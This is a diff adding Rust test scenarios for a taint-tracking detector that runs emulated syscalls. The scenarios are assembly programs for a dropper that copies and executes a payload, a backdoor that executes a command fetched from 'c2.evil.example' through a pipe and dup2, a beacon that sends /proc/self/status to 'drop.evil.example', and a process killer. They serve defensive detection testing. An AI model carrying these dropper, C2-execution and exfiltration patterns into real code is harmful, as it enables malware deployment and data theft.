@@ -1,0 +1,452 @@
+//! Second-generation taint surface workloads: `mmap`, pipe/`dup2`
+//! laundering, `select` servers, signals, and `/proc` self-inspection.
+//!
+//! These scenarios exist to *prove the ABI refactor pays*: each one
+//! exercises syscalls that landed as single table rows in
+//! `emukernel::abi` (constants, names, dispatch, assembler mnemonics and
+//! userspace stubs all generated), and each pins the taint semantics the
+//! paper's rules need — most importantly that laundering data through
+//! kernel plumbing (a pipe, an `mmap` mapping, a `dup2`'d descriptor)
+//! does **not** shed tags.
+//!
+//! The programs use the pre-seeded ABI constants (`SYS_*`, `O_*`,
+//! `SC_*`, `SIG*`) and the generated `libsys.so` stubs — no hand-written
+//! syscall numbers.
+
+use emukernel::{Endpoint, FileNode, Peer, RemoteClient};
+use hth_core::{Session, Severity};
+
+use crate::libc::libsys_so;
+use crate::scenario::{Expectation, Group, Scenario, StartSpec};
+
+/// All second-generation-surface scenarios.
+pub fn scenarios() -> Vec<Scenario> {
+    vec![mmap_dropper(), pipe_launder(), antidebug_beacon(), sig_killer(), select_server()]
+}
+
+/// A dropper that `mmap`s its payload instead of `read`ing it: the
+/// mapped pages must inherit the payload file's taint, so the write into
+/// the drop location is a file→file flow with both names hardcoded.
+fn mmap_dropper() -> Scenario {
+    Scenario {
+        id: "mmap-dropper",
+        group: Group::Exploit,
+        description: "dropper that mmaps its embedded payload file and copies it \
+                      to a hardcoded drop path, chmods it and execs it",
+        paper_note: "mapped file pages carry the file's DataSource: Medium \
+                     file-to-file flow plus Low execve of the hardcoded drop path",
+        expected: Expectation::Rules(Severity::Medium, &["flow_file_to_file", "check_execve"]),
+        setup: Box::new(|session: &mut Session| {
+            session.kernel.vfs.install(
+                "/usr/share/app/payload.bin",
+                FileNode::regular(b"\x7fELFdropper-payload"),
+            );
+            session.kernel.register_binary(
+                "/gen2/mmap_dropper",
+                r#"
+                _start:
+                    mov eax, SYS_open       ; open the embedded payload
+                    mov ebx, payload
+                    mov ecx, O_RDONLY
+                    int 0x80
+                    mov esi, eax
+                    mov eax, SYS_mmap       ; map 19 payload bytes
+                    mov ebx, esi
+                    mov ecx, 19
+                    mov edx, 0
+                    int 0x80
+                    mov edi, eax            ; mapping address
+                    mov eax, SYS_open       ; open the drop location
+                    mov ebx, droppath
+                    mov ecx, O_CREAT
+                    int 0x80
+                    mov esi, eax
+                    mov eax, SYS_write      ; copy straight out of the mapping
+                    mov ebx, esi
+                    mov ecx, edi
+                    mov edx, 19
+                    int 0x80
+                    mov eax, SYS_close
+                    mov ebx, esi
+                    int 0x80
+                    mov eax, SYS_munmap
+                    mov ebx, edi
+                    mov ecx, 19
+                    int 0x80
+                    mov eax, SYS_chmod      ; make it executable
+                    mov ebx, droppath
+                    mov ecx, 0x1ed
+                    int 0x80
+                    mov eax, SYS_execve     ; run the drop
+                    mov ebx, droppath
+                    int 0x80
+                    mov eax, SYS_exit
+                    mov ebx, 0
+                    int 0x80
+                .data
+                payload:  .asciz "/usr/share/app/payload.bin"
+                droppath: .asciz "/tmp/.helper"
+                "#,
+                &[],
+            );
+            StartSpec::plain("/gen2/mmap_dropper")
+        }),
+    }
+}
+
+/// A backdoor that tries to launder a command received from its C2
+/// through an anonymous pipe (write end → `dup2`'d read end) before
+/// `execve`ing it. The pipe must carry the socket taint end to end.
+fn pipe_launder() -> Scenario {
+    Scenario {
+        id: "pipe-launder",
+        group: Group::Exploit,
+        description: "backdoor that pushes a C2-supplied command through a \
+                      pipe + dup2 chain before execve — taint survives the plumbing",
+        paper_note: "High: the execve'd name still carries its socket origin \
+                     after the pipe round trip",
+        expected: Expectation::Rules(Severity::High, &["check_execve"]),
+        setup: Box::new(|session: &mut Session| {
+            session.kernel.net.add_host("c2.evil.example", 0x0d0d_0d0d);
+            session.kernel.net.add_peer(
+                Endpoint { ip: 0x0d0d_0d0d, port: 6667 },
+                Peer { on_connect: vec![b"/tmp/evil\0".to_vec()], ..Peer::default() },
+            );
+            session.kernel.register_lib("libsys.so", &libsys_so());
+            session.kernel.register_binary(
+                "/gen2/pipe_launder",
+                r#"
+                .extern sys_pipe
+                .extern sys_dup2
+                _start:
+                    mov eax, SYS_socketcall ; socket()
+                    mov ebx, SC_SOCKET
+                    mov ecx, sockargs
+                    int 0x80
+                    mov esi, eax
+                    mov [connargs], esi     ; connect(fd, &c2, 8)
+                    mov eax, SYS_socketcall
+                    mov ebx, SC_CONNECT
+                    mov ecx, connargs
+                    int 0x80
+                    mov [recvargs], esi     ; recv the command (10 bytes)
+                    mov eax, SYS_socketcall
+                    mov ebx, SC_RECV
+                    mov ecx, recvargs
+                    int 0x80
+                    mov ebx, fdbuf          ; pipe(fdbuf) via the libsys stub
+                    call sys_pipe
+                    mov eax, SYS_write      ; launder: command into the pipe
+                    mov ebx, [wrfd]
+                    mov ecx, 0x09000000
+                    mov edx, 10
+                    int 0x80
+                    mov ebx, [rdfd]         ; dup2(read end, 10)
+                    mov ecx, 10
+                    call sys_dup2
+                    mov eax, SYS_read       ; pull it back out of fd 10
+                    mov ebx, 10
+                    mov ecx, 0x09000100
+                    mov edx, 10
+                    int 0x80
+                    mov eax, SYS_execve     ; exec the "clean" copy
+                    mov ebx, 0x09000100
+                    int 0x80
+                    mov eax, SYS_exit
+                    mov ebx, 0
+                    int 0x80
+                .data
+                sockargs: .long 2, 1, 0
+                c2addr:   .word 2
+                c2port:   .word 6667
+                c2ip:     .long 0x0d0d0d0d
+                connargs: .long 0, c2addr, 8
+                recvargs: .long 0, 0x09000000, 10, 0
+                fdbuf:
+                rdfd:     .long 0
+                wrfd:     .long 0
+                "#,
+                &["libsys.so"],
+            );
+            StartSpec::plain("/gen2/pipe_launder")
+        }),
+    }
+}
+
+/// Anti-debug beacon: reads its own `/proc/self/status` (TracerPid
+/// check) and ships it to a hardcoded C2 — the `/proc` read is flagged,
+/// and the exfiltration is a file→socket flow.
+fn antidebug_beacon() -> Scenario {
+    Scenario {
+        id: "antidebug-beacon",
+        group: Group::Exploit,
+        description: "reads /proc/self/status (anti-debug) and sends it to a \
+                      hardcoded command-and-control endpoint",
+        paper_note: "Low for the /proc self-inspection, High for shipping \
+                     process state to a hardcoded socket",
+        expected: Expectation::Rules(
+            Severity::High,
+            &["check_proc_introspection", "flow_file_to_socket"],
+        ),
+        setup: Box::new(|session: &mut Session| {
+            session.kernel.net.add_host("drop.evil.example", 0x0e0e_0e0e);
+            session.kernel.net.add_peer(Endpoint { ip: 0x0e0e_0e0e, port: 8080 }, Peer::default());
+            session.kernel.register_binary(
+                "/gen2/antidebug_beacon",
+                r#"
+                _start:
+                    mov eax, SYS_open       ; open /proc/self/status
+                    mov ebx, procpath
+                    mov ecx, O_RDONLY
+                    int 0x80
+                    mov esi, eax
+                    mov eax, SYS_read       ; read the status text
+                    mov ebx, esi
+                    mov ecx, 0x09000000
+                    mov edx, 128
+                    int 0x80
+                    mov edi, eax            ; bytes read
+                    mov eax, SYS_socketcall ; socket()
+                    mov ebx, SC_SOCKET
+                    mov ecx, sockargs
+                    int 0x80
+                    mov esi, eax
+                    mov [connargs], esi     ; connect to the C2
+                    mov eax, SYS_socketcall
+                    mov ebx, SC_CONNECT
+                    mov ecx, connargs
+                    int 0x80
+                    mov [sendargs], esi     ; send(fd, status, n)
+                    mov [sendlen], edi
+                    mov eax, SYS_socketcall
+                    mov ebx, SC_SEND
+                    mov ecx, sendargs
+                    int 0x80
+                    mov eax, SYS_exit
+                    mov ebx, 0
+                    int 0x80
+                .data
+                procpath: .asciz "/proc/self/status"
+                sockargs: .long 2, 1, 0
+                c2addr:   .word 2
+                c2port:   .word 8080
+                c2ip:     .long 0x0e0e0e0e
+                connargs: .long 0, c2addr, 8
+                sendargs: .long 0, 0x09000000
+                sendlen:  .long 0
+                sendflg:  .long 0
+                "#,
+                &[],
+            );
+            StartSpec::plain("/gen2/antidebug_beacon")
+        }),
+    }
+}
+
+/// Forks a child, registers its own SIGTERM handler, then SIGKILLs the
+/// child — the watchdog-killer pattern. The kill is surfaced; the child
+/// exits `128 + 9`.
+fn sig_killer() -> Scenario {
+    Scenario {
+        id: "sig-killer",
+        group: Group::Exploit,
+        description: "parent installs a SIGTERM handler and SIGKILLs its child \
+                      (watchdog-killer pattern)",
+        paper_note: "Low: cross-process signal via SYS_kill",
+        expected: Expectation::Rules(Severity::Low, &["check_process_kill"]),
+        setup: Box::new(|session: &mut Session| {
+            session.kernel.register_binary(
+                "/gen2/sig_killer",
+                r"
+                _start:
+                    mov eax, SYS_fork
+                    int 0x80
+                    cmp eax, 0
+                    je child
+                    mov esi, eax            ; child pid
+                    mov eax, SYS_sigaction  ; shield ourselves from SIGTERM
+                    mov ebx, SIGTERM
+                    mov ecx, onterm
+                    int 0x80
+                    mov eax, SYS_kill       ; SIGKILL the child
+                    mov ebx, esi
+                    mov ecx, SIGKILL
+                    int 0x80
+                    mov eax, SYS_exit
+                    mov ebx, 0
+                    int 0x80
+                child:
+                    mov eax, SYS_nanosleep  ; would outlive the parent...
+                    mov ebx, 500
+                    int 0x80
+                    mov eax, SYS_exit
+                    mov ebx, 0
+                    int 0x80
+                onterm:
+                    ret
+                ",
+                &[],
+            );
+            StartSpec::plain("/gen2/sig_killer")
+        }),
+    }
+}
+
+/// False-positive control: a `select`-driven echo server whose listening
+/// address comes from *user input* (stdin). Nothing here is hardcoded,
+/// so the backdoor-server and flow rules must stay silent.
+fn select_server() -> Scenario {
+    Scenario {
+        id: "select-server",
+        group: Group::Trusted,
+        description: "select-driven echo server; listening address is read from \
+                      stdin, one client echoed and exit — benign",
+        paper_note: "control for the new surface: select/accept/echo with a \
+                     user-supplied address must not warn",
+        expected: Expectation::Silent,
+        setup: Box::new(|session: &mut Session| {
+            // sockaddr {family=2, port=5000, ip=0 (fill local)} over stdin.
+            session.kernel.push_stdin(vec![0x02, 0x00, 0x88, 0x13, 0, 0, 0, 0]);
+            session.kernel.net.queue_client(
+                5000,
+                RemoteClient {
+                    from: Endpoint { ip: 0xc0a8_0117, port: 40112 },
+                    sends: [b"ping".to_vec()].into(),
+                    received: Vec::new(),
+                },
+            );
+            session.kernel.register_binary(
+                "/gen2/select_server",
+                r#"
+                _start:
+                    mov eax, SYS_read       ; read the sockaddr from stdin
+                    mov ebx, 0
+                    mov ecx, 0x09000000
+                    mov edx, 8
+                    int 0x80
+                    mov eax, SYS_socketcall ; socket()
+                    mov ebx, SC_SOCKET
+                    mov ecx, sockargs
+                    int 0x80
+                    mov esi, eax            ; listener fd
+                    mov [bindargs], esi     ; bind(fd, user sockaddr, 8)
+                    mov eax, SYS_socketcall
+                    mov ebx, SC_BIND
+                    mov ecx, bindargs
+                    int 0x80
+                    mov [listenargs], esi   ; listen(fd)
+                    mov eax, SYS_socketcall
+                    mov ebx, SC_LISTEN
+                    mov ecx, listenargs
+                    int 0x80
+                    ; select until the listener is readable
+                wait_accept:
+                    mov ecx, 1
+                    shl ecx, esi
+                    mov [fdset], ecx
+                    mov eax, SYS_select
+                    mov ebx, 8
+                    mov ecx, fdset
+                    mov edx, 5
+                    int 0x80
+                    cmp eax, 0
+                    je wait_accept
+                    mov [acceptargs], esi   ; accept(fd, &peer)
+                    mov eax, SYS_socketcall
+                    mov ebx, SC_ACCEPT
+                    mov ecx, acceptargs
+                    int 0x80
+                    mov edi, eax            ; connection fd
+                    ; select until the connection is readable
+                wait_data:
+                    mov ecx, 1
+                    shl ecx, edi
+                    mov [fdset], ecx
+                    mov eax, SYS_select
+                    mov ebx, 8
+                    mov ecx, fdset
+                    mov edx, 5
+                    int 0x80
+                    cmp eax, 0
+                    je wait_data
+                    mov [recvargs], edi     ; recv(conn, buf, 16)
+                    mov eax, SYS_socketcall
+                    mov ebx, SC_RECV
+                    mov ecx, recvargs
+                    int 0x80
+                    mov [sendargs], edi     ; echo it back
+                    mov [sendlen], eax
+                    mov eax, SYS_socketcall
+                    mov ebx, SC_SEND
+                    mov ecx, sendargs
+                    int 0x80
+                    mov eax, SYS_exit
+                    mov ebx, 0
+                    int 0x80
+                .data
+                sockargs:   .long 2, 1, 0
+                bindargs:   .long 0, 0x09000000, 8
+                listenargs: .long 0, 5
+                acceptargs: .long 0, 0x09000020
+                fdset:      .long 0
+                recvargs:   .long 0, 0x09000100, 16, 0
+                sendargs:   .long 0, 0x09000100
+                sendlen:    .long 0
+                sendflg:    .long 0
+                "#,
+                &[],
+            );
+            StartSpec::plain("/gen2/select_server")
+        }),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn gen2_scenarios_match_expectations() {
+        for scenario in scenarios() {
+            let result = scenario.run().expect("runs");
+            assert!(
+                result.correct(),
+                "{}: expected {:?}, got severity {:?}, rules {:?}\nfaults: {:?}\ntranscript:\n{}",
+                scenario.id,
+                scenario.expected,
+                result.max_severity(),
+                result.rules_fired(),
+                result.report.faults,
+                result.transcript,
+            );
+        }
+    }
+
+    #[test]
+    fn pipe_launder_taint_survives_plumbing() {
+        // The laundering scenario's whole point: the execve'd path still
+        // carries a SOCKET origin. Severity High *and* the message names
+        // the socket.
+        let result = pipe_launder().run().expect("runs");
+        let execve = result
+            .warnings
+            .iter()
+            .find(|w| w.rule == "check_execve")
+            .expect("execve warning fired");
+        assert!(
+            execve.message.contains("originated from a socket"),
+            "laundering shed the socket taint: {}",
+            execve.message
+        );
+    }
+
+    #[test]
+    fn sig_killer_child_dies_of_signal() {
+        let result = sig_killer().run().expect("runs");
+        assert!(
+            result.report.exited.iter().any(|&(_, code)| code == 128 + 9),
+            "child should exit 128+SIGKILL, got {:?}",
+            result.report.exited
+        );
+    }
+}
